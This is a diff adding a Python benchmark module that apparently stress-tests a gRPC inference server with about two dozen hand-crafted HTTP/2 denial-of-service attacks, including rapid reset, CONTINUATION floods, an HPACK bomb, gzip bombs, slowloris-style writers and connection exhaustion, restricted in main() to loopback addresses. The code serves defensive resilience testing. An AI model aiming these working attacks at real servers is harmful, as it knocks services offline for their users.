@@ -1,0 +1,587 @@
+"""What hostile peers do to a server, each attack a function over plain sockets with frames made by hand. hostile.py starts this as a
+process of its own, one attack at a time:
+
+    python benchmarks/attacks.py NAME ADDRESS CORE
+
+It goes on, with new connections where it is cut off, until its stdin is closed, and prints what happened as one JSON object: how often
+which word. Loopback addresses only. Never in here: whether the server did well.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import random
+import resource
+import select
+import signal
+import socket
+import ssl
+import struct
+import sys
+import time
+from collections import Counter
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+from dataclasses import dataclass, field
+
+import hpack
+import workloads
+
+from inferd.protocol import inference
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+CODES = [
+    "NO_ERROR",
+    "PROTOCOL_ERROR",
+    "INTERNAL_ERROR",
+    "FLOW_CONTROL_ERROR",
+    "SETTINGS_TIMEOUT",
+    "STREAM_CLOSED",
+    "FRAME_SIZE_ERROR",
+    "REFUSED_STREAM",
+    "CANCEL",
+    "COMPRESSION_ERROR",
+    "CONNECT_ERROR",
+    "ENHANCE_YOUR_CALM",
+    "INADEQUATE_SECURITY",
+    "HTTP_1_1_REQUIRED",
+]
+LARGEST_WINDOW = 2**31 - 1
+NICE = 10  # an attacker has a machine of its own: here it gives way to the client that is measured
+PIECE_NBYTES = 64 << 10
+WIDTH = 16_384  # of a row of the model `wide`
+ANSWER_NBYTES = 4 * WIDTH
+RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close() sends RST
+HELD_ANSWERS = 1000
+IDLE_CONNECTIONS = 10_000
+CHILD_S = 120  # a child ends then, whatever becomes of us
+Words = Counter[str]
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def u32(number: int) -> bytes:
+    return struct.pack(">I", number)
+
+
+def literal(name: bytes, value: bytes) -> bytes:
+    """One field of HPACK, neither indexed nor compressed."""
+    return b"\0" + length(len(name)) + name + length(len(value)) + value
+
+
+def length(nbytes: int, prefix: int = 0) -> bytes:
+    """A string's length as HPACK has it."""
+    if nbytes < 127:
+        return bytes((prefix | nbytes,))
+    found, rest = bytes((prefix | 127,)), nbytes - 127
+    while rest >= 128:
+        found, rest = found + bytes((rest % 128 | 128,)), rest // 128
+    return found + bytes((rest,))
+
+
+def block(*more: tuple[bytes, bytes], path: bytes = workloads.INFER_PATH.encode()) -> bytes:
+    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"test"), (b"te", b"trailers")]
+    return b"".join(literal(*one) for one in (*fields, (b"content-type", b"application/grpc"), *more))
+
+
+BLOCK = block()
+
+
+def message() -> bytes:
+    """A request to the model `wide` behind gRPC's prefix: ANSWER_NBYTES come back."""
+    request = inference.ModelInferRequest(model_name="wide")
+    request.inputs.add(name="x", datatype="FP32", shape=(1, WIDTH))
+    request.raw_input_contents.append(bytes(ANSWER_NBYTES))
+    body: bytes = request.SerializeToString()
+    return struct.pack(">BI", 0, len(body)) + body
+
+
+def data(stream: int, body: bytes, *, end: bool = True) -> bytes:
+    """DATA frames of the size that every server takes."""
+    pieces = [body[at : at + 16_384] for at in range(0, len(body), 16_384)] or [b""]
+    return b"".join(frame(DATA, END_STREAM if end and piece is pieces[-1] else 0, stream, piece) for piece in pieces)
+
+
+def numbers(first: int = 1) -> Iterator[int]:
+    """Of streams, until there are no more."""
+    return iter(range(first, 2**31, 2))
+
+
+def ready(descriptor: int, events: int, seconds: float = 0.0) -> int:
+    """Which of the events are there, within so long. select() knows no descriptor beyond 1023."""
+    poll = select.poll()
+    poll.register(descriptor, events)
+    found = poll.poll(seconds * 1000)
+    return found[0][1] if found else 0
+
+
+def stopped() -> bool:
+    """hostile.py has closed our stdin."""
+    return ready(sys.stdin.fileno(), select.POLLIN) != 0
+
+
+def going() -> None:
+    """The attack is under way: the load may begin."""
+    print("going", flush=True)
+
+
+@dataclass
+class Peer:
+    """One connection, which reads what comes while it sends, unless it is deaf."""
+
+    address: str
+    words: Words
+    greeting: bytes = PREFACE + frame(SETTINGS, 0, 0)
+    deaf: bool = False
+    cut: bool = False
+    _said: str = ""  # GOAWAY
+    _unread: bytes = b""
+    _decoder: hpack.Decoder = field(default_factory=hpack.Decoder)
+
+    def __post_init__(self) -> None:
+        host, _, port = self.address.rpartition(":")
+        self.socket = socket.create_connection((host, int(port)), 10)
+        self.socket.setblocking(False)
+        if self.greeting:
+            self.send(self.greeting)
+
+    def send(self, content: bytes, patience_s: float = 10.0) -> bool:
+        """Whether all of it went. A server that takes nothing for so long has stopped reading, which is an answer, too."""
+        unsent = memoryview(content)
+        while unsent and not self.cut:
+            events = ready(self.socket.fileno(), select.POLLOUT if self.deaf else select.POLLOUT | select.POLLIN, patience_s)
+            if events & select.POLLIN:
+                self.read()
+            if events & (select.POLLOUT | select.POLLERR | select.POLLHUP) and not self.cut:
+                try:
+                    unsent = unsent[self.socket.send(unsent[:PIECE_NBYTES]) :]
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    self._read_rest()
+            if not events:
+                self.words["not read"] += 1
+                return False
+            if stopped():
+                return False
+        return not self.cut
+
+    def wait(self, seconds: float) -> None:
+        """Reads what comes for so long, or until the connection is cut."""
+        until = time.monotonic() + seconds
+        while not self.cut and (left := until - time.monotonic()) > 0:
+            if ready(self.socket.fileno(), select.POLLIN, min(left, 0.1)):
+                self.read()
+            if stopped():
+                return
+
+    def read(self) -> None:
+        try:
+            came = self.socket.recv(1 << 20)
+        except BlockingIOError:
+            return
+        except OSError:
+            came = b""
+        if not came:
+            self._end()
+            return
+        self._unread += came
+        if self._unread.startswith(b"HTTP/1.1 "):
+            self._said = self._unread[:12].decode()
+            return
+        while len(self._unread) >= 9 and len(self._unread) >= (size := 9 + int.from_bytes(self._unread[:3], "big")):
+            self._take(self._unread[3], self._unread[4], self._unread[9:size])
+            self._unread = self._unread[size:]
+
+    def _take(self, kind: int, flags: int, payload: bytes) -> None:
+        if kind == GOAWAY:
+            self._said = f"GOAWAY {CODES[int.from_bytes(payload[4:8], 'big')]}"
+        elif kind == RST_STREAM:
+            self.words[f"RST {CODES[int.from_bytes(payload, 'big')]}"] += 1
+        elif kind == HEADERS:
+            fields = dict(self._decoder.decode(payload))
+            if "grpc-status" in fields:
+                self.words[f"grpc-status {fields['grpc-status']}"] += 1
+
+    def _read_rest(self) -> None:
+        """What the server said before it cut the connection."""
+        while not self.cut:
+            self.read()
+
+    def _end(self) -> None:
+        if not self.cut:
+            self.cut = True
+            self.words[self._said or "cut off"] += 1
+        self.socket.close()
+
+    def close(self) -> None:
+        """Leaves, as a program does that ends."""
+        if not self.cut:
+            self.words["left open"] += 1
+        self.socket.close()
+
+
+def over_and_over(attack: Callable[[Peer], None], address: str, **options: bool) -> Words:
+    """The attack on one connection after the other."""
+    words: Words = Counter()
+    going()
+    while not stopped():
+        peer = Peer(address, words, **options)
+        attack(peer)
+        peer.close()
+        words["connections"] += 1
+    return words
+
+
+def flood(address: str, piece: bytes, opening: bytes = b"") -> Words:
+    """The same bytes without end."""
+    whole = piece * max(1, (4 << 20) // len(piece))
+
+    def attack(peer: Peer) -> None:
+        peer.send(opening)
+        while peer.send(whole):
+            peer.words["MiB"] += len(whole) >> 20
+
+    return over_and_over(attack, address)
+
+
+# ---- the attacks
+
+
+def rapid_reset(address: str) -> Words:
+    """100,000 streams a connection, each opened and reset at once."""
+    cancel = u32(8)
+    whole = b"".join(frame(HEADERS, END_HEADERS, n, BLOCK) + frame(RST_STREAM, 0, n, cancel) for n in range(1, 200_000, 2))
+
+    def attack(peer: Peer) -> None:
+        peer.send(whole)
+        peer.words["streams"] += 100_000
+        peer.wait(0.2)
+
+    return over_and_over(attack, address)
+
+
+def continuation_flood(address: str) -> Words:
+    return flood(address, frame(CONTINUATION, 0, 1, b""), frame(HEADERS, END_STREAM, 1, BLOCK[:10]))
+
+
+def continuation_flood_of_headers(address: str) -> Words:
+    return flood(address, frame(CONTINUATION, 0, 1, literal(b"name", bytes(16_000).replace(b"\0", b"x"))), frame(HEADERS, 0, 1, BLOCK))
+
+
+def hpack_bomb(address: str) -> Words:
+    """A field of 4 KB in the table once, then bytes that each stand for it: 16 KB of them are 64 MB of headers."""
+    stored = b"\x40" + length(4) + b"bomb" + length(4000) + b"x" * 4000
+    bomb = BLOCK + b"\xbe" * (16_000 - len(BLOCK))  # 62, the newest entry
+
+    def attack(peer: Peer) -> None:
+        streams = numbers()
+        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), BLOCK + stored))
+        while peer.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), bomb) for _ in range(100))):
+            peer.words["bombs"] += 100
+
+    return over_and_over(attack, address)
+
+
+def settings_flood(address: str) -> Words:
+    return flood(address, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))
+
+
+def ping_flood(address: str) -> Words:
+    return flood(address, frame(PING, 0, 0, bytes(8)))
+
+
+def ping_flood_unread(address: str) -> Words:
+    """Whose answers nobody reads."""
+
+    def attack(peer: Peer) -> None:
+        while peer.send(frame(PING, 0, 0, bytes(8)) * 100_000, patience_s=1.0):
+            pass
+        peer.wait(1.0)
+
+    return over_and_over(attack, address, deaf=True)
+
+
+def window_update_flood(address: str) -> Words:
+    """Turns of one byte; a window that grows beyond 2 GiB is another matter, and an error."""
+    return flood(address, frame(WINDOW_UPDATE, 0, 1, u32(1)), frame(HEADERS, END_HEADERS, 1, BLOCK))
+
+
+def empty_data_flood(address: str) -> Words:
+    return flood(address, frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, BLOCK))
+
+
+def padding_flood(address: str) -> Words:
+    return flood(address, frame(DATA, 0x8, 1, b"\xff" + bytes(255)), frame(HEADERS, END_HEADERS, 1, BLOCK))
+
+
+def priority_flood(address: str) -> Words:
+    return flood(address, b"".join(frame(PRIORITY, 0, n, u32(0) + b"\x0f") for n in range(1, 20_000, 2)))
+
+
+def unknown_frame_flood(address: str) -> Words:
+    return flood(address, frame(0xF0, 0, 0))
+
+
+def unknown_method_flood(address: str) -> Words:
+    """Refused calls, as fast as they can be asked for."""
+
+    def attack(peer: Peer) -> None:
+        streams = numbers()
+        asked = block(path=b"/no.Such/Method")
+        while peer.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), asked) for _ in range(500))):
+            peer.words["calls"] += 500
+
+    return over_and_over(attack, address)
+
+
+def zero_windows(address: str) -> Words:
+    """1000 answers of 64 KiB that wait for windows that are never opened."""
+    body = message()
+    words: Words = Counter()
+    closed = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + frame(WINDOW_UPDATE, 0, 0, u32(1 << 30))
+    peer = Peer(address, words, greeting=closed)
+    for number in range(1, 2 * HELD_ANSWERS, 2):
+        peer.send(frame(HEADERS, END_HEADERS, number, BLOCK) + data(number, body))
+        peer.wait(0.002)  # the connection's window opens as the server reads
+    going()
+    while not stopped():
+        peer.wait(0.1)
+    words["asked"] = HELD_ANSWERS
+    peer.close()
+    return words
+
+
+def bytewise_writers(address: str) -> Words:
+    """200 connections, each with a request that comes a byte at a time."""
+    words: Words = Counter()
+    peers = [Peer(address, words) for _ in range(200)]
+    content = frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, message())
+    for peer in peers:
+        peer.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    going()
+    at = 0
+    while not stopped() and at < len(content):
+        for peer in peers:
+            peer.send(content[at : at + 1])
+            words["bytes"] += 1
+        at += 1
+    for peer in peers:
+        peer.close()
+    return words
+
+
+def descriptors() -> int:
+    """How many more sockets this process may open: the hard limit, which it takes."""
+    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    return hard - 50
+
+
+def idle_connections(address: str) -> Words:
+    """10,000 that have greeted and say nothing more; fewer where the limit on open files is lower."""
+    words: Words = Counter()
+    wanted = min(IDLE_CONNECTIONS, descriptors())
+    peers = []
+    for _ in range(wanted):
+        try:
+            peers.append(Peer(address, words))
+        except OSError:
+            words["not accepted"] += 1
+    words["connections"] = len(peers)
+    going()
+    while not stopped():
+        time.sleep(0.05)
+    for peer in peers:
+        peer.read()  # nothing, the server's settings, or the end
+        peer.close()
+    return words
+
+
+def half_open_sockets(address: str) -> Words:
+    """2000 that never say what they speak, and others that come and vanish within their first bytes."""
+    words: Words = Counter()
+    silent = [Peer(address, words, greeting=PREFACE[: number % len(PREFACE)]) for number in range(2000)]
+    going()
+    while not stopped():
+        peer = Peer(address, words, greeting=PREFACE[:10])
+        peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
+        peer.socket.close()
+        words["vanished"] += 1
+    for peer in silent:
+        peer.close()
+    return words
+
+
+def oversize_headers(address: str) -> Words:
+    """A block of 1 MiB in one frame, and metadata of 1000 entries, in turn."""
+    acknowledged = frame(SETTINGS, ACK, 0)
+    large = b"".join(literal(b"name", b"x" * 10_000) for _ in range(100))
+    many = b"".join(literal(b"n%d" % number, b"") for number in range(1000))
+
+    def attack(peer: Peer) -> None:
+        streams = numbers()
+        peer.wait(0.05)
+        peer.send(acknowledged)
+        for _ in range(20):
+            for extra in (large, many):
+                peer.send(frame(HEADERS, END_HEADERS | END_STREAM, next(streams), BLOCK + extra))
+        peer.wait(0.1)
+
+    return over_and_over(attack, address)
+
+
+def bad_frames(address: str) -> Words:
+    """Frames of every kind with any flags, streams and contents, in any state; a connection each until it is cut off."""
+    lots = random.Random(0)
+
+    def attack(peer: Peer) -> None:
+        streams = numbers()
+        for _ in range(50):
+            number = next(streams)
+            peer.send(frame(HEADERS, lots.choice((0, END_STREAM, END_HEADERS, END_HEADERS | END_STREAM)), number, BLOCK))
+            kind, flags = lots.choice((*range(10), 10, 0xF0)), lots.randrange(256)
+            stream = lots.choice((0, number, number + 2, 2 * lots.randrange(8), lots.randrange(2**31)))
+            peer.send(frame(kind, flags, stream, lots.randbytes(lots.choice((0, 3, 4, 5, 6, 8, 9, 100)))))
+        peer.wait(0.05)
+
+    return over_and_over(attack, address)
+
+
+def gzip_bombs(address: str) -> Words:
+    """1 GiB of zeros in 1 MB; and one that is as large as it may be, 64 MiB."""
+    bodies = [gzip.compress(bytes(nbytes), 1) for nbytes in (256 << 20, (64 << 20) - 1000)]
+    asked = block((b"grpc-encoding", b"gzip"))
+
+    def attack(peer: Peer) -> None:
+        peer.wait(0.05)
+        peer.send(frame(SETTINGS, ACK, 0))
+        for number, body in zip(numbers(), bodies * 2, strict=False):
+            peer.send(frame(HEADERS, END_HEADERS, number, asked) + data(number, struct.pack(">BI", 1, len(body)) + body))
+        peer.wait(1.0)
+
+    return over_and_over(attack, address)
+
+
+def handshakes_never_made(address: str) -> Words:
+    """1000 connections to the TLS port: silent, within a ClientHello, behind it; and more of the last kind, as fast as they go."""
+    words: Words = Counter()
+    hello = client_hello()
+    waiting = [Peer(address, words, greeting=hello[:cut]) for _ in range(333) for cut in (0, 50, len(hello))]
+    going()
+    while not stopped():
+        peer = Peer(address, words, greeting=hello)
+        peer.socket.close()
+        words["hellos"] += 1
+    for peer in waiting:
+        peer.close()
+    return words
+
+
+def client_hello() -> bytes:
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    with suppress(ssl.SSLWantReadError):
+        context.wrap_bio(incoming, outgoing).do_handshake()
+    return outgoing.read()
+
+
+def killed_clients(address: str) -> Words:
+    """1000 processes, each killed with SIGKILL in mid-message, at another byte each time."""
+    words: Words = Counter()
+    content = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, message())
+    going()
+    while words["killed"] < 1000 or not stopped():
+        told, tell = os.pipe()
+        child = os.fork()
+        if child == 0:
+            signal.alarm(CHILD_S)
+            peer = Peer(address, Counter(), greeting=b"")
+            peer.socket.setblocking(True)
+            peer.socket.sendall(content[: words["killed"] * 104729 % len(content)])
+            os.write(tell, b".")
+            signal.pause()
+        os.close(tell)
+        os.read(told, 1)  # it has sent all that it will
+        os.close(told)
+        os.kill(child, signal.SIGKILL)
+        os.waitpid(child, 0)
+        words["killed"] += 1
+    return words
+
+
+def stopped_clients(address: str) -> Words:
+    """A client with windows of 2 GiB, stopped by SIGSTOP for 10 s while 1000 answers of 64 KiB pile up; then killed."""
+    words: Words = Counter()
+    opening = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, LARGEST_WINDOW))
+    opening += frame(WINDOW_UPDATE, 0, 0, u32(LARGEST_WINDOW - 65_535))
+    body = message()
+    told, tell = os.pipe()
+    child = os.fork()
+    if child == 0:
+        signal.alarm(CHILD_S)
+        peer = Peer(address, Counter(), greeting=opening, deaf=True)
+        for number in range(1, 2 * HELD_ANSWERS, 2):
+            peer.send(frame(HEADERS, END_HEADERS, number, BLOCK) + data(number, body))
+        os.write(tell, b".")
+        signal.pause()
+    os.read(told, 1)
+    os.kill(child, signal.SIGSTOP)
+    going()
+    until = time.monotonic() + 10
+    while time.monotonic() < until or not stopped():
+        time.sleep(0.05)
+    os.kill(child, signal.SIGKILL)
+    os.waitpid(child, 0)
+    words["stopped"] = 1
+    return words
+
+
+ATTACKS: dict[str, Callable[[str], Words]] = {
+    "rapid reset": rapid_reset,
+    "CONTINUATION flood": continuation_flood,
+    "CONTINUATION flood of headers": continuation_flood_of_headers,
+    "HPACK bomb": hpack_bomb,
+    "SETTINGS flood": settings_flood,
+    "PING flood": ping_flood,
+    "PING flood, unread": ping_flood_unread,
+    "WINDOW_UPDATE flood": window_update_flood,
+    "empty DATA flood": empty_data_flood,
+    "padding flood": padding_flood,
+    "PRIORITY flood": priority_flood,
+    "flood of unknown frames": unknown_frame_flood,
+    "flood of unknown methods": unknown_method_flood,
+    "zero windows, 1000 answers": zero_windows,
+    "a byte at a time, 200 writers": bytewise_writers,
+    "10,000 idle connections": idle_connections,
+    "half-open sockets": half_open_sockets,
+    "oversize headers": oversize_headers,
+    "bad frames in any state": bad_frames,
+    "gzip bombs": gzip_bombs,
+    "TLS handshakes never made": handshakes_never_made,
+    "kill -9 in mid-message, 1000 times": killed_clients,
+    "SIGSTOP for 10 s": stopped_clients,
+}
+OF_TLS = {"TLS handshakes never made"}  # those of the TLS port
+
+
+def main() -> int:
+    name, address, core = sys.argv[1:]
+    if not address.startswith("127."):
+        raise SystemExit("loopback addresses only")
+    os.nice(NICE)
+    os.sched_setaffinity(0, {int(core)})
+    print(json.dumps(ATTACKS[name](address)), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
